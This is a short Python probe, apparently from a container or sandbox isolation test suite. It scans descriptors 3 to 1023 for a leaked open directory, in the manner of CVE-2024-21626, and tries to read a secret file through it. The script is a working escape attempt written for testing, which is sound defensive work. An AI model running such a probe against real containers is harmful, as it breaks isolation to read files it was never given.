# /// attack
# guarantee = "filesystem_read"
# summary = "Climbs out from a folder that was left open in a descriptor."
# reference = "CVE-2024-21626"
# success = "the secret is read below a leaked descriptor"
# stage = ["leak"]
# observe = ["secret"]
# refusal = { default = "errno" }
# ///

import os

from kit import has_secret, refused, succeeded, target

for number in range(3, 1024):
    try:
        fd = os.open(target("LEAKED").lstrip("/"), os.O_RDONLY, dir_fd=number)
    except OSError:
        continue
    if has_secret(os.read(fd, 100)):
        succeeded(number)
refused("ENOENT, ENOTDIR or EBADF on every descriptor")
